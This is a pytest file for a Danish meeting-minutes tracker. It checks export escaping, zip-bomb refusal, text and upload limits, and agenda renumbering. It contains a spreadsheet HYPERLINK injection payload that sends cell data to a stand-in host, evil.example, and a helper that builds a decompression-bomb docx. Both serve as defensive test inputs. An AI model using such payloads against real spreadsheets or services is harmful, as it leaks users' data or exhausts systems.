"""Security of the exports and the import: formulas stay text, control characters, zip bombs,
text lengths, one upload limit, and agenda numbers that appear twice."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from tests.factories import make_action, make_forum, make_meeting, make_person, make_point
from tests.importing.test_import import new_forum, review_fields
from tests.importing.test_import import upload as upload_and_review
from tests.prg import post_with_error
from tracker.actions.services import add_note
from tracker.extensions import db
from tracker.minutes.reading import (
    MAX_ZIP_ENTRIES,
    MinutesError,
    megabytes,
    read_minutes_bytes,
)
from tracker.models import (
    Action,
    AgendaItem,
    Attendance,
    Forum,
    Meeting,
    OutboxMessage,
    Person,
    Point,
    StatusNote,
)
from tracker.reports.exports import csv_text

DATA = Path(__file__).parents[1] / "data"
DIREKTIONEN = (DATA / "referat-direktionen-2025-09-10.md").read_text()
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
MB = 1024 * 1024


def counts():
    return [
        db.session.scalar(select(func.count()).select_from(m))
        for m in (Meeting, Attendance, AgendaItem, Point, Action, Person, Forum, OutboxMessage)
    ]


def upload(client, data: bytes, name="referat.md"):
    return client.post(
        "/import",
        {"file": (io.BytesIO(data), name), "forum": ""},
        content_type="multipart/form-data",
    )


def cli_import(app, tmp_path, data: bytes, name="referat.md"):
    path = tmp_path / name
    path.write_bytes(data)
    return app.test_cli_runner().invoke(args=["minutes", "import", str(path)])


# --------------------------------------------------------------------------------------
# 4 and 10: exports


@pytest.fixture
def noted(app, member):
    """An action on a forum meeting whose latest note is ``text`` (set per test)."""
    owner = make_person(name="Torben Æblegård", email="aeblegaard@example.org")
    forum = make_forum("Lederforum")
    meeting = make_meeting(forum, title="LF forår")

    def with_note(text, title="Seminar"):
        action = make_action(owner, title, meeting=meeting)
        add_note(action, owner, text)
        db.session.commit()
        return action

    return with_note


def xlsx_rows(client):
    response = client.get("/fora/lederforum/status.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    return list(sheet.iter_rows(min_row=2))


def csv_rows(client):
    response = client.get("/fora/lederforum/status.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))


NOTE = 11  # "Seneste statusnote"


def test_xlsx_writes_a_formula_in_a_note_as_text(member_client, noted):
    noted(HYPERLINK, title="+SUM(A1:A9)")
    (row,) = xlsx_rows(member_client)
    note, title = row[NOTE], row[5]
    assert (note.data_type, note.value) == ("s", HYPERLINK)
    assert (title.data_type, title.value) == ("s", "+SUM(A1:A9)")
    assert not [c for c in row if c.data_type == "f"]
    assert isinstance(row[2].value, datetime) and row[2].data_type == "d", "dates stay dates"
    assert isinstance(row[12].value, datetime), "the note's date stays a date"


def test_csv_starts_formula_like_cells_with_an_apostrophe(member_client, noted):
    noted(HYPERLINK, title="@SUM(1)")
    header, row = csv_rows(member_client)
    assert row[NOTE] == "'" + HYPERLINK and row[NOTE].startswith("'=")
    assert row[5] == "'@SUM(1)"
    assert row[2] == "26-02-2025", "dates are not prefixed"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_text_prefixes_every_formula_start(start):
    assert csv_text(start + "1+1") == "'" + start + "1+1"
    assert csv_text("Afventer " + start) == "Afventer " + start


def test_report_command_csv_is_safe_too(app, noted, tmp_path):
    noted(HYPERLINK)
    out = tmp_path / "status.csv"
    result = app.test_cli_runner().invoke(
        args=["report", "status", "--forum", "lederforum", "--format", "csv", "--output", str(out)]
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig")), delimiter=";"))
    assert rows[1][NOTE] == "'" + HYPERLINK


def test_control_characters_in_a_note_do_not_break_the_excel_file(member_client, noted):
    noted("Afventer\x01 direktionen\x0b\x1f")
    (row,) = xlsx_rows(member_client)
    assert row[NOTE].value == "Afventer direktionen"
    assert member_client.get("/fora/lederforum/status.pdf").status_code == 200
    assert csv_rows(member_client)[1][NOTE].startswith("Afventer")


# --------------------------------------------------------------------------------------
# 7: zip bombs


def bomb(size=60 * MB, entries=()) -> bytes:
    """A .docx-looking zip whose word/document.xml unpacks to ``size`` bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"<" + b"a" * (size - 1))
        for name in entries:
            archive.writestr(name, "")
    return buffer.getvalue()


def test_a_docx_zip_bomb_is_refused_on_the_import_page(secretary_client):
    data = bomb()
    assert len(data) < 1 * MB
    before = counts()
    response = upload(secretary_client, data, name="referat.docx")
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert "fylder for meget, når det pakkes ud (over 20 MB)" in page
    assert counts() == before


def test_a_docx_zip_bomb_is_refused_by_the_command(app, tmp_path):
    before = counts()
    result = cli_import(app, tmp_path, bomb(), name="referat.docx")
    assert result.exit_code == 2
    assert "fylder for meget, når det pakkes ud (over 20 MB)" in result.stderr
    assert counts() == before


def test_the_unpacked_cap_comes_from_the_config(app, secretary_client, tmp_path):
    app.config["IMPORT_MAX_UNPACKED_BYTES"] = 1 * MB
    page = upload(secretary_client, bomb(2 * MB), name="referat.docx").get_data(as_text=True)
    assert "(over 1 MB)" in page
    result = cli_import(app, tmp_path, bomb(2 * MB), name="referat.docx")
    assert result.exit_code == 2 and "(over 1 MB)" in result.stderr


def test_the_pure_reader_has_a_default_cap_and_an_entry_cap():
    with pytest.raises(MinutesError) as info:
        read_minutes_bytes(bomb(21 * MB), "referat.docx")
    assert info.value.code == "too_large" and "20 MB" in info.value.message("en")
    many = bomb(1000, entries=[f"word/media/{n}.xml" for n in range(MAX_ZIP_ENTRIES)])
    with pytest.raises(MinutesError) as info:
        read_minutes_bytes(many, "referat.docx")
    assert "for mange dele" in str(info.value) and "too many parts" in info.value.message("en")


# --------------------------------------------------------------------------------------
# 17: text lengths and one upload limit


def test_agenda_item_and_point_texts_are_limited(secretary_client):
    meeting = make_meeting()
    url = f"/moeder/{meeting.id}/punkter/ny"
    page = post_with_error(
        secretary_client,
        url,
        {"number": "1", "title": "Reform", "summary": "x" * 10_001, "decision": "ok"},
    )
    assert "Teksten er for lang: højst 10000 tegn" in page
    page = post_with_error(
        secretary_client, url, {"number": "1", "title": "R" * 301, "summary": "ok"}
    )
    assert "højst 300 tegn" in page
    assert db.session.scalar(select(func.count()).select_from(AgendaItem)) == 0
    ok = secretary_client.post(url, {"number": "1", "title": "Reform", "decision": "x" * 10_000})
    assert ok.status_code == 302
    item = db.session.scalar(select(AgendaItem))
    page = post_with_error(
        secretary_client,
        f"/punkter/{item.id}/beslutninger/ny",
        {"text": "x" * 10_001, "kind": "plenum"},
    )
    assert "Teksten er for lang: højst 10000 tegn" in page
    assert db.session.scalar(select(func.count()).select_from(Point)) == 0


def test_action_description_and_deadline_are_limited(secretary_client, member):
    point = make_point()
    url = f"/beslutninger/{point.id}/handling/ny"
    form = {"title": "Plan", "owner_id": str(member.id), "deadline": "27. marts 2025"}
    page = post_with_error(
        secretary_client, url, {**form, "description": "x" * 10_001, "submit": "1"}
    )
    assert "Teksten er for lang: højst 10000 tegn" in page
    page = post_with_error(
        secretary_client,
        url,
        {**form, "deadline": "27. marts 2025" + " " + "x" * 200, "submit": "1"},
    )
    assert "højst 200 tegn" in page
    assert db.session.scalar(select(func.count()).select_from(Action)) == 0


def test_forum_description_is_limited(client, admin):
    client.login(admin)
    page = post_with_error(client, "/fora/ny", {"name": "Chefforum", "description": "x" * 10_001})
    assert "Teksten er for lang: højst 10000 tegn" in page
    assert db.session.scalar(select(func.count()).select_from(Forum)) == 0


def test_a_status_note_too_long_is_refused_in_danish(secretary_client, secretary):
    action = make_action(secretary, "Plan")
    page = post_with_error(
        secretary_client,
        f"/handlinger/{action.id}/note",
        {"text": "x" * 5001, "status": "", "version": str(action.version)},
        token_from=f"/handlinger/{action.id}",
        page=f"/handlinger/{action.id}",
    )
    assert "Teksten er for lang: højst 5000 tegn" in page
    assert db.session.scalar(select(func.count()).select_from(StatusNote)) == 0


def test_an_imported_title_longer_than_its_column_is_cut_and_kept_whole_in_its_text(
    secretary_client, app, tmp_path
):
    # a title the reading ran together with its text is no reason to refuse the referat
    # (issue 25): the title is cut at a word, the whole line stays in the item's text
    long_title = ("Budget " + "meget " * 60).strip()
    data = DIREKTIONEN.replace("Budget 2026 og reformspor", long_title).encode()
    response = upload(secretary_client, data)
    assert response.status_code == 303 and "/import/" in response.headers["Location"]
    page = secretary_client.get(response.headers["Location"]).get_data(as_text=True)
    assert "Budget meget meget" in page and "Gem" in page
    result = cli_import(app, tmp_path, data)
    assert result.exit_code == 0, result.output
    item = db.session.scalar(select(AgendaItem).where(AgendaItem.title.like("Budget meget%")))
    assert len(item.title) <= 200 and item.title.endswith("…")
    assert long_title in (item.summary or "")  # nothing of the line lost


@pytest.mark.parametrize("limit", [None, 1 * MB])
def test_the_413_page_upload_page_and_refusal_name_the_config_limit(
    app, secretary_client, tmp_path, limit
):
    if limit:
        app.config["MAX_CONTENT_LENGTH"] = limit
    limit = app.config["MAX_CONTENT_LENGTH"]
    figure = f"højst {megabytes(limit)} MB"
    assert figure in secretary_client.get("/import").get_data(as_text=True)
    too_big = b"a" * (limit + 1)
    response = upload(secretary_client, too_big)
    assert response.status_code == 413
    assert figure in response.get_data(as_text=True)
    result = cli_import(app, tmp_path, too_big)
    assert result.exit_code == 2
    assert f"højst fylde {megabytes(limit)} MB" in result.stderr


# --------------------------------------------------------------------------------------
# 12: the same agenda number twice: lost numbering is common; the items are numbered in order
# and the review says so (it was a refusal, which made a real referat impossible to import)

TWICE = DIREKTIONEN.replace("# Punkt 2: Budget", "# Punkt 3: Budget").encode()
RENUMBERED = "Referatets punktnumre var tabt eller gentaget (1, 3, 3)"


def test_the_review_numbers_a_repeated_agenda_number_in_order_and_says_so(secretary_client):
    page = upload_and_review(secretary_client, TWICE).get_data(as_text=True)
    assert RENUMBERED in page and "/gem" in page, "a warning, and the review can be saved"
    assert "Punkt 2: Budget 2026 og reformspor" in page
    assert "Punkt 3: Orientering fra HR" in page


def test_saving_a_referat_with_an_agenda_number_twice_never_fails(secretary_client, secretary):
    """A review kept with a number twice: it is saved with the items numbered in order."""
    from tracker.importing import uploads

    draft = uploads.keep(secretary, TWICE.decode(), "referat.md")
    db.session.commit()
    review = f"/import/{draft.id}"
    page = secretary_client.get(review).get_data(as_text=True)
    assert RENUMBERED in page
    fields = {k: v for k, v in new_forum(review_fields(page)).items() if not k.endswith("-accept")}
    response = secretary_client.post(f"{review}/gem", fields, token_from=review)
    assert response.status_code == 302, response.status_code
    numbers = db.session.scalars(select(AgendaItem.number).order_by(AgendaItem.number)).all()
    assert numbers == [1, 2, 3]


def test_the_command_numbers_a_repeated_agenda_number_in_order(app, tmp_path):
    result = cli_import(app, tmp_path, TWICE)
    assert result.exit_code == 0, result.stderr
    assert "Advarsel: " + RENUMBERED in result.stdout
    numbers = db.session.scalars(select(AgendaItem.number).order_by(AgendaItem.number)).all()
    assert numbers == [1, 2, 3]


def test_a_form_too_large_is_named_a_form_not_a_file(app, secretary_client, secretary):
    """A review or note posted over the limit is not an upload: the page says the form was too
    large and that nothing was saved, in Danish."""
    from tracker.importing import uploads

    draft = uploads.keep(secretary, DIREKTIONEN, "referat.md")
    db.session.commit()
    limit = app.config["MAX_CONTENT_LENGTH"]
    before = counts()
    review = f"/import/{draft.id}"
    big = {"note": "a" * (limit + 1)}
    response = secretary_client.post(f"{review}/gem", data=big, token_from=review)
    page = response.get_data(as_text=True)
    assert response.status_code == 413
    assert "Formularen er for stor" in page and "Intet er gemt" in page
    assert "Filen er for stor" not in page
    assert counts() == before


def test_an_imported_place_longer_than_its_column_is_refused(secretary_client, app, tmp_path):
    long_place = "Sønderø Rådhus, " + "mødelokale 3, " * 30
    data = DIREKTIONEN.replace("Sønderø Rådhus, mødelokale 3", long_place.strip(" ,")).encode()
    before = counts()
    response = upload(secretary_client, data)
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert "Mødestedet fylder for meget" in page
    assert "/gem" not in page, "no save form"
    result = cli_import(app, tmp_path, data)
    assert result.exit_code == 2 and "Mødestedet fylder for meget" in result.stderr
    assert counts() == before
